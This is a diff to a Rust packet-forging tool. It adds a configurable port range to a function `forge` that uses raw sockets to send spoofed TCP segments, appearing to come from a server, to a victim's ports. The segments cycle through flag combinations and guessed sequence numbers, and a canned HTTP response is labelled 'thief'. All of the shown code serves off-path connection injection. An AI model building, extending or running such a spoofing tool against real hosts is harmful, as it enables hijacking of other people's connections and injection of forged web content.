@@ -2,6 +2,7 @@
 
 use std::io;
 use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
+use std::ops::RangeInclusive;
 use std::time::{Duration, Instant};
 
 use socket2::{Domain, Protocol, SockAddr, Socket, Type};
@@ -16,12 +17,13 @@ const ANSWER: &[u8] = b"HTTP/1.1 200 OK\r\nx-served-by: thief\r\ncontent-length:
 /// FIN, SYN, RST, ACK, and the combinations that a receiver looks at differently.
 const FLAGS: [u8; 6] = [0x10, 0x18, 0x11, 0x14, 0x04, 0x12];
 
-/// Sends segments that claim to come from `server`, to every port of `victim`, with numbers that follow from `seed`.
+/// Sends segments that claim to come from `server`, to these ports of `victim` by turns, with numbers that follow from `seed`.
 ///
 /// # Errors
 /// If raw sockets are not to be had.
 pub fn forge(
     victim: Ipv4Addr,
+    ports: RangeInclusive<u16>,
     server: SocketAddrV4,
     seed: u64,
     length: Duration,
@@ -36,7 +38,7 @@ pub fn forge(
     let mut deeds = Deeds::default();
     let mut state = seed | 1;
     while Instant::now() < end {
-        for port in 10_000..=u16::MAX {
+        for port in ports.clone() {
             // xorshift64 (Marsaglia 2003)
             state ^= state << 13;
             state ^= state >> 7;
